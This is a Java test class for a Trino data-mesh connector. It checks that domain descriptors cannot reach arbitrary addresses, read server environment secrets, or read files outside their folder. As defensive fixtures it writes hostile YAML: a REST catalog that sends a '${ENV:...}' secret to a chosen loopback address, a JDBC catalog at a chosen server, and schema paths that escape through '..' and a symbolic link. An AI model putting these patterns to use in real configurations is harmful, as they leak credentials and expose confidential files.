package dev.datamesh.trino;

import com.google.common.collect.ImmutableMap;
import dev.datamesh.iceberg.IcebergCatalogs;
import dev.datamesh.iceberg.testing.IcebergTestTables;
import io.trino.testing.AbstractTestQueryFramework;
import io.trino.testing.MaterializedRow;
import io.trino.testing.QueryRunner;
import org.apache.iceberg.Schema;
import org.apache.iceberg.Table;
import org.apache.iceberg.types.Types;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.Execution;

import java.io.Closeable;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

import static com.google.common.base.Preconditions.checkState;
import static dev.datamesh.iceberg.testing.IcebergTestTables.append;
import static dev.datamesh.iceberg.testing.IcebergTestTables.createTable;
import static dev.datamesh.iceberg.testing.IcebergTestTables.record;
import static org.apache.iceberg.types.Types.NestedField.required;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.parallel.ExecutionMode.SAME_THREAD;

/**
 * What a domain's descriptor may reach (issue 14): no address of its choosing, no secret of the
 * server's environment, no file outside the descriptor folder. Descriptors that try are left out with
 * their problems at file:line, the rest of the sample mesh keeps serving (its logistics product
 * keeps its Iceberg catalog in a SQLite file of its own), and a loopback listener named by the
 * descriptors is never connected to, neither when the registry loads nor when their tables are queried.
 */
@Execution(SAME_THREAD)
public class TestDescriptorTrustBoundary
        extends AbstractTestQueryFramework
{
    // set by the module's surefire configuration: a secret of the server's environment
    private static final String SECRET_VARIABLE = "MESH_TEST_SERVER_SECRET";
    private static final String CONFIDENTIAL = "CONFIDENTIAL-7d41";
    private static final String ASK_THE_PLATFORM = "ask the platform to declare the catalog in the mesh catalog's properties (mesh.iceberg-catalog.<name>.*) and write %s: <name>";
    private static final String ENVIRONMENT = "'%s' contains ${ENV:...}: descriptors cannot read the server's environment; write the value itself, and leave secrets to the platform, " +
            "which declares storage profiles and Iceberg catalogs with their credentials in the mesh catalog's properties";

    private String secret;
    private LoopbackListener listener;
    private int connectionsBefore;
    private Path products;
    private Path marketing;

    @Override
    protected QueryRunner createQueryRunner()
            throws Exception
    {
        secret = System.getenv(SECRET_VARIABLE);
        checkState(secret != null, "run with %s set in the environment (the module's surefire configuration sets it)", SECRET_VARIABLE);
        listener = closeAfterClass(new LoopbackListener());
        // the listener counts what reaches it: one connection of our own first
        try (Socket _ = new Socket(InetAddress.getLoopbackAddress(), listener.port())) {
            listener.awaitConnections(1);
        }
        connectionsBefore = listener.connections();

        products = SampleMeshDirectory.create();
        marketing = Files.createDirectories(products.resolve("marketing"));
        // the exfiltration of the issue: a REST catalog at an address of the descriptor's choosing, sent a server secret
        Files.writeString(marketing.resolve("audience.yaml"), """
                name: audience-data-product
                domain: marketing
                owner: marketing-team
                version: 1.0.0
                iceberg_catalog: {type: rest, uri: "http://127.0.0.1:%s/api", token: "${ENV:%s}"}
                data_assets:
                  - {name: audience, format: iceberg, table: marketing.audience}
                access_control:
                  - {role: analyst, permissions: read}
                """.formatted(listener.port(), SECRET_VARIABLE));
        // the same through a JDBC catalog in a database server of its choosing
        Files.writeString(marketing.resolve("leads.yaml"), """
                name: leads-data-product
                domain: marketing
                owner: marketing-team
                version: 1.0.0
                data_assets:
                  - name: leads
                    format: iceberg
                    table: marketing.leads
                    catalog: {type: jdbc, uri: "jdbc:postgresql://127.0.0.1:%s/iceberg"}
                """.formatted(listener.port()));
        // the environment anywhere else
        Files.writeString(marketing.resolve("campaigns.yaml"), """
                name: campaigns-data-product
                domain: marketing
                owner: marketing-team
                version: 1.0.0
                description: "Campaigns of ${ENV:%s}"
                data_assets:
                  - name: campaigns
                    format: parquet
                    location: ../../data/${ENV:HOME}/campaigns
                """.formatted(SECRET_VARIABLE));
        // column contracts outside the descriptor folder: by .. and through a symbolic link
        Path outside = Files.writeString(products.resolveSibling("outside.json"), "{\"columns\": [{\"name\": \"%s\", \"type\": \"%s\", \"nulable\": 1}]}".formatted(CONFIDENTIAL, CONFIDENTIAL));
        Files.createSymbolicLink(marketing.resolve("contacts_schema.json"), outside);
        Path contacts = Files.createDirectories(products.resolveSibling("data/marketing/contacts"));
        Files.copy(SampleMeshDirectory.customerProfileFile(products), contacts.resolve("part-00000.parquet"));
        Files.writeString(marketing.resolve("contacts.yaml"), """
                name: contacts-data-product
                domain: marketing
                owner: marketing-team
                version: 1.0.0
                data_assets:
                  - name: contacts
                    format: parquet
                    location: ../../data/marketing/contacts
                    schema: ../../outside.json
                  - name: contacts_linked
                    format: parquet
                    location: ../../data/marketing/contacts
                    schema: contacts_schema.json
                """);

        // a catalog the platform declares, which descriptors name
        Path lake = Files.createDirectories(products.resolveSibling("platform/marketing-lake"));
        IcebergCatalogs writing = IcebergTestTables.writingCatalogs();
        try (writing) {
            Table segments = createTable(writing.catalog(IcebergTestTables.jdbcCatalog("lake", lake.resolve("catalog.db"), lake.resolve("warehouse"))), "marketing", "segments",
                    new Schema(required(1, "segment_id", Types.LongType.get()), required(2, "name", Types.StringType.get())));
            Schema schema = segments.schema();
            append(segments, record(schema, 1L, "loyal"), record(schema, 2L, "new"));
        }
        Files.writeString(marketing.resolve("segments.yaml"), """
                name: segments-data-product
                domain: marketing
                owner: marketing-team
                version: 1.0.0
                iceberg_catalog: marketing-lake
                data_assets:
                  - {name: segments, format: iceberg, table: marketing.segments}
                """);
        Files.writeString(marketing.resolve("typo.yaml"), """
                name: typo-data-product
                domain: marketing
                owner: marketing-team
                version: 1.0.0
                data_assets:
                  - {name: typo, format: iceberg, table: marketing.segments, catalog: marketing_lake}
                """);

        return MeshQueryRunner.create(products, 0, ImmutableMap.of(
                "mesh.iceberg-catalog.marketing-lake.type", "jdbc",
                "mesh.iceberg-catalog.marketing-lake.uri", "jdbc:sqlite:" + lake.resolve("catalog.db"),
                "mesh.iceberg-catalog.marketing-lake.catalog-name", "lake"));
    }

    @Test
    public void testExfiltrationIsRefused()
    {
        Path audience = marketing.resolve("audience.yaml");
        assertProblem(audience, 5, columnOf(audience, 5, "\"${ENV:"), ENVIRONMENT.formatted("iceberg_catalog.token"));
        assertProblem(audience, 5, 25, "'iceberg_catalog.type' is rest: a descriptor cannot declare a catalog service, whose address and credentials belong to the platform; " +
                ASK_THE_PLATFORM.formatted("iceberg_catalog"));
        assertProblem(audience, 5, columnOf(audience, 5, "token:"), "'iceberg_catalog.token' is not allowed in a descriptor: credentials and catalog properties belong to the platform; " +
                ASK_THE_PLATFORM.formatted("iceberg_catalog"));
        assertProblem(marketing.resolve("leads.yaml"), 9, 32, ("'data_assets[0].catalog.uri' is not a SQLite file: a descriptor may keep its own catalog only in a SQLite file (jdbc:sqlite:<path>, " +
                "relative to this descriptor or absolute); for a catalog in another database, ") + ASK_THE_PLATFORM.formatted("catalog"));

        // their tables are not served, and querying them reaches nothing
        assertQueryFails("SELECT * FROM marketing.audience", ".*Table 'mesh.marketing.audience' does not exist");
        assertQueryFails("SELECT * FROM marketing.leads", ".*Table 'mesh.marketing.leads' does not exist");
        // the rest of the mesh keeps serving, the sample's SQLite catalog included
        assertThat((long) computeActual("SELECT count(*) FROM logistics.shipments").getOnlyValue()).isPositive();
        assertThat((long) computeActual("SELECT count(*) FROM customer_service.customer_profile").getOnlyValue()).isPositive();

        assertThat(listener.connections()).isEqualTo(connectionsBefore);
        assertThat(problems()).allSatisfy(problem -> assertThat(problem.toString()).doesNotContain(secret));
    }

    @Test
    public void testNoEnvironmentInDescriptors()
    {
        Path campaigns = marketing.resolve("campaigns.yaml");
        assertProblem(campaigns, 5, 14, ENVIRONMENT.formatted("description"));
        assertProblem(campaigns, 9, 15, ENVIRONMENT.formatted("data_assets[0].location"));
        assertQueryFails("SELECT * FROM marketing.campaigns", ".*Table 'mesh.marketing.campaigns' does not exist");
    }

    @Test
    public void testSchemaFilesStayInsideTheDescriptorFolder()
    {
        Path contacts = marketing.resolve("contacts.yaml");
        assertProblem(contacts, 9, 13, "schema file %s lies outside the descriptor folder %s; only files inside it are read".formatted(products.resolveSibling("outside.json"), products));
        assertProblem(contacts, 13, 13, "schema file %s leads through a symbolic link to no file inside the descriptor folder %s; only files inside it are read"
                .formatted(marketing.resolve("contacts_schema.json"), products));
        assertQueryFails("SELECT * FROM marketing.contacts", ".*Table 'mesh.marketing.contacts' does not exist");
        // the file is never read: nothing of it shows
        assertThat(problems()).allSatisfy(problem -> assertThat(problem.toString()).doesNotContain(CONFIDENTIAL));
    }

    @Test
    public void testCatalogsThePlatformDeclares()
    {
        assertQuery("SELECT segment_id, name FROM marketing.segments", "VALUES (1, 'loyal'), (2, 'new')");
        assertProblem(marketing.resolve("typo.yaml"), 6, 71,
                "Iceberg catalog 'marketing_lake' is not declared in the mesh catalog (declared: marketing-lake); ask the platform to declare it with mesh.iceberg-catalog.marketing_lake.* properties, or correct the name");
    }

    private void assertProblem(Path file, long line, long column, String message)
    {
        assertThat(problems()).as("problems of the mesh").contains(List.of(file.toString(), line, column, message));
    }

    /**
     * The column, from 1, where the text starts on the line of the file: ports make lines of different lengths.
     */
    private static long columnOf(Path file, int line, String text)
    {
        try {
            String content = Files.readAllLines(file).get(line - 1);
            checkState(content.contains(text), "%s:%s does not hold %s", file, line, text);
            return content.indexOf(text) + 1;
        }
        catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private List<List<Object>> problems()
    {
        return computeActual("SELECT file, line, column_number, message FROM system.descriptor_errors").getMaterializedRows().stream()
                .map(MaterializedRow::getFields)
                .toList();
    }

    /**
     * A TCP listener on loopback that accepts connections and counts them, whatever they send.
     */
    private static final class LoopbackListener
            implements Closeable
    {
        private final ServerSocket socket;
        private final AtomicInteger connections = new AtomicInteger();
        private final Thread acceptor;

        LoopbackListener()
                throws IOException
        {
            socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
            acceptor = new Thread(() -> {
                while (!socket.isClosed()) {
                    try (Socket _ = socket.accept()) {
                        connections.incrementAndGet();
                    }
                    catch (IOException _) {
                        // closed
                    }
                }
            }, "loopback-listener");
            acceptor.setDaemon(true);
            acceptor.start();
        }

        int port()
        {
            return socket.getLocalPort();
        }

        int connections()
        {
            return connections.get();
        }

        void awaitConnections(int count)
                throws InterruptedException
        {
            for (int i = 0; i < 500 && connections.get() < count; i++) {
                Thread.sleep(10);
            }
            checkState(connections.get() >= count, "the listener saw %s connections, not %s", connections.get(), count);
        }

        @Override
        public void close()
                throws IOException
        {
            socket.close();
        }
    }
}
